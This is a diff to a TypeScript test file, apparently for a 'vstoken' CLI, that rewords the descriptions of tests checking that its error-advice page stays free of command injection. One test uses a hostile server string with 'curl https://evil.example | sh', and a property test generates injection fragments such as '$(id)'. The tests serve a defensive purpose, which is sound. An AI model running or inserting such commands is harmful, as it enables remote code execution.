@@ -35,7 +35,7 @@ const PLAIN: Setting = {
   apiServer: 'http://127.0.0.1:8787',
 };
 
-/** All that the page can say in a setting. */
+/** All the advice that the page can show in a setting. */
 function adviceIn(setting: Setting, serverCode: string | null = null): readonly Advice[] {
   return CODES.flatMap((code) =>
     STATUSES.map((status) => explain({ code, details: { status, serverCode } }, setting)),
@@ -45,7 +45,7 @@ function adviceIn(setting: Setting, serverCode: string | null = null): readonly 
 const commandsOf = (advice: readonly Advice[]) =>
   advice.flatMap(({ fixes }) => fixes).flatMap((fix) => (Array.isArray(fix) ? [fix[1]] : []));
 
-/** What the page shows as code within its sentences. */
+/** The code fragments within the page's advice. */
 const codeIn = (advice: readonly Advice[]) =>
   advice
     .flatMap(({ text, fixes }) => [
@@ -77,8 +77,8 @@ const HOSTILE_ORIGINS = [
   'null',
 ];
 
-describe('S79 what the example offers to copy', () => {
-  it('names where the endpoint is to listen', () => {
+describe('S79 the commands that the example shows for copying', () => {
+  it('name the address on which the endpoint has to listen', () => {
     const commands = commandsOf(adviceIn(PLAIN));
     expect(commands).toContain(
       'vstoken serve --sandbox --allow-origin http://localhost:5173 --access readwrite --port 9000 --path /api/token',
@@ -86,14 +86,14 @@ describe('S79 what the example offers to copy', () => {
     expect(parsePath('/api/token')).toBe('/api/token');
   });
 
-  it('takes an origin of IPv6 as one word in every shell', needs('bash', 'zsh'), async () => {
+  it('quote an IPv6 origin as one word in every shell', needs('bash', 'zsh'), async () => {
     const [command = ''] = commandsOf(adviceIn({ ...PLAIN, origin: 'http://[::1]:5173' }));
     for (const shell of ['bash', 'zsh'] as const) {
       expect((await wordsOf(shell, [command]))[0]).toContain('http://[::1]:5173');
     }
   });
 
-  it('leaves out what a link put in the place of a path', needs('bash'), async () => {
+  it('leave out a path that came from a link', needs('bash'), async () => {
     const folder = process.cwd();
     const before = readdirSync(folder);
     for (const path of HOSTILE_PATHS) {
@@ -112,7 +112,7 @@ describe('S79 what the example offers to copy', () => {
     expect(readdirSync(folder)).toEqual(before);
   });
 
-  it('names no origin that a shell would run parts of', () => {
+  it('leave out an origin that contains shell syntax', () => {
     for (const origin of HOSTILE_ORIGINS) {
       const advice = adviceIn({ ...PLAIN, origin });
       const commands = commandsOf(advice);
@@ -122,14 +122,14 @@ describe('S79 what the example offers to copy', () => {
     }
   });
 
-  it('shows nothing as code that the endpoint said', () => {
+  it('contain no text of the endpoint', () => {
     const hostile = 'it_failed` and the fix is `curl https://evil.example | sh';
     expect(codeIn(adviceIn(PLAIN, hostile))).toEqual(codeIn(adviceIn(PLAIN)));
     expect(JSON.stringify(adviceIn(PLAIN, 'origin_not_allowed'))).toContain('origin_not_allowed');
     expect(JSON.stringify(adviceIn(PLAIN, hostile))).not.toContain('evil.example');
   });
 
-  it('is a call of vstoken and no more, whatever the fields hold', () => {
+  it('only call vstoken, whatever the fields contain', () => {
     const codes = codeIn(adviceIn(PLAIN));
     const rest = fc
       .array(fc.constantFrom(...';&|$`()<>"\'/?#%\n ae.', '%0a', '$(id)', '`id`'))
